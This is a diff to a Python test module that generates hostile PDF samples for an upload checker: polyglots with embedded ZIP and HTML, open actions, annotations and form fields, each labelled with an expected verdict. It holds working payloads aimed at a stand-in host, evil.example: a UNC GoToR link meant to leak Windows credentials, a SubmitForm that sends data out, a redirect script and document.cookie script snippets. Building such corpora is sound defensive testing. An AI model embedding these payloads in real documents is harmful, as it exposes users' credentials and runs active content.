@@ -1,11 +1,15 @@
 """A generated corpus of hostile and odd uploads, built byte by byte (nothing binary is kept in
-the repository): bombs of several shapes, active content, polyglots, encryption, truncation,
-padding, sizes at and over the limit. Each entry names the verdict the upload check must give.
+the repository): bombs of several shapes, active content, actions and annotations outside the
+allowlist, polyglots (a ZIP or HTML in a comment, in a stream, between objects), encryption,
+truncation, padding, sizes at and over the limit. Each entry names the verdict the upload
+check must give.
 """
 
 import io
+import zipfile
 import zlib
 from dataclasses import dataclass
+from functools import partial
 
 import pikepdf
 
@@ -70,6 +74,64 @@ def packed(objs: dict[int, bytes], *, size: int | None = None) -> bytes:
 def with_catalog(extra: bytes, *more: bytes) -> bytes:
     """One page; `extra` goes into the catalog, `more` become objects 4, 5, ..."""
     return classic([CATALOG[:-2] + extra + b">>", ONE_PAGE_TREE, PAGE, *more])
+
+
+def with_page(extra: bytes, *more: bytes) -> bytes:
+    """One page; `extra` goes into the page (its /Annots, /AA), `more` become objects 4, ..."""
+    return classic([CATALOG, ONE_PAGE_TREE, PAGE[:-2] + extra + b">>", *more])
+
+
+def annotated(annotation: bytes, *more: bytes) -> bytes:
+    """One page with one annotation (object 4), `more` become objects 5, 6, ..."""
+    return with_page(b"/Annots[4 0 R]", annotation, *more)
+
+
+def evil_zip() -> bytes:
+    """A real archive holding evil.html: what an archive tool shows for the polyglots."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("evil.html", "<script>location='https://evil.example/'</script>")
+    return out.getvalue()
+
+
+def before_last_eof(data: bytes, inserted: bytes) -> bytes:
+    at = data.rfind(b"%%EOF")
+    return data[:at] + inserted + data[at:]
+
+
+def zip_in_comment() -> bytes:
+    """A comment just before the final %%EOF holding a ZIP: opens as an archive."""
+    return before_last_eof(pdf_bytes(), b"%" + evil_zip() + b"\n")
+
+
+def html_in_comment() -> bytes:
+    return before_last_eof(pdf_bytes(), b"%<html><script>alert(document.cookie)</script>\n")
+
+
+def zip_in_stream() -> bytes:
+    """The archive as the data of an unreferenced stream, the file's last object."""
+    data = evil_zip()
+    return with_catalog(b"", b"<</Length %d>>\nstream\n%s\nendstream" % (len(data), data))
+
+
+def between_objects() -> bytes:
+    data = with_catalog(b"")
+    at = data.find(b"2 0 obj")
+    return data[:at] + b"<html><body onload=alert(1)>\n" + data[at:]
+
+
+def text_field() -> bytes:
+    """A fillable text field: a /Widget whose field is not a signature field."""
+    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 200 20]>>"
+    catalog = CATALOG[:-2] + b"/AcroForm<</Fields[4 0 R]>>>>"
+    return classic([catalog, ONE_PAGE_TREE, PAGE[:-2] + b"/Annots[4 0 R]>>", widget])
+
+
+def gotor_in_object_stream() -> bytes:
+    """The action compressed inside an object stream, found by the parse all the same."""
+    catalog = CATALOG[:-2] + b"/OpenAction 4 0 R>>"
+    gotor = b"<</S/GoToR/F%s/D[0/Fit]>>" % UNC
+    return packed({1: catalog, 2: ONE_PAGE_TREE, 3: PAGE, 4: gotor})
 
 
 def kids_repeated(n: int = 2_000_000) -> bytes:
@@ -138,6 +200,21 @@ def sized(total: int) -> bytes:
     return data
 
 
+UNC = rb"(\\\\evil.example\\share\\x.pdf)"  # opening it sends Windows credentials
+LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 100 20]/A%s>>"
+BINARY_COMMENT = b"%\x01\x02\x03\x04\n/Lang(zh)"
+IMPORT_DATA_AA = b"/AA<</O<</S/ImportData/F(data.fdf)>>>>"
+OPEN_ACTIONS = [  # name, the catalog's /OpenAction, verdict
+    ("gotor-unc-openaction.pdf", b"<</S/GoToR/F%s/D[0/Fit]>>" % UNC, "remote_goto"),
+    ("gotor-escaped-name.pdf", b"<</S/GoTo#52/F%s/D[0/Fit]>>" % UNC, "remote_goto"),
+    ("named-print-in-next.pdf", b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/Print>>]>>", "action"),
+]
+ANNOTATIONS = [  # name, the page's one annotation, verdict
+    ("submitform-link.pdf", LINK % b"<</S/SubmitForm/F(https://evil.example/)>>", "submit_form"),
+    ("unc-uri-link.pdf", LINK % b"<</S/URI/URI(file://///evil.example/share/x)>>", "uri"),
+    ("richmedia.pdf", b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 200 200]>>", "rich_media"),
+    ("watermark.pdf", b"<</Type/Annot/Subtype/Watermark/Rect[0 0 200 200]>>", "annotation"),
+]
 ZIP = b"PK\x03\x04" + b"\x00" * 26 + b"evil.exe" + b"MZ" * 64 + b"PK\x05\x06" + b"\x00" * 18
 
 
@@ -194,6 +271,16 @@ def corpus() -> list[Sample]:
             lambda: with_catalog(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"(<xdp:xdp/>)"),
             "xfa",
         ),
+        Sample("zip-in-comment-before-eof.pdf", zip_in_comment, "zip_inside"),
+        Sample("html-in-comment-before-eof.pdf", html_in_comment, "comment"),
+        Sample("zip-in-stream.pdf", zip_in_stream, "zip_inside"),
+        Sample("html-between-objects.pdf", between_objects, "stray"),
+        Sample("binary-comment-in-object.pdf", partial(with_catalog, BINARY_COMMENT), "comment"),
+        *(Sample(n, partial(with_catalog, b"/OpenAction" + a), v) for n, a, v in OPEN_ACTIONS),
+        *(Sample(n, partial(annotated, a), v) for n, a, v in ANNOTATIONS),
+        Sample("importdata-page-aa.pdf", partial(with_page, IMPORT_DATA_AA), "import_data"),
+        Sample("text-field-widget.pdf", text_field, "form_field"),
+        Sample("gotor-in-object-stream.pdf", gotor_in_object_stream, "remote_goto"),
         Sample("bomb-kids-repeated.pdf", kids_repeated, "limit"),
         Sample("bomb-page-dag.pdf", page_dag, "damaged"),
         Sample("bomb-many-objects.pdf", many_objects, "limit"),
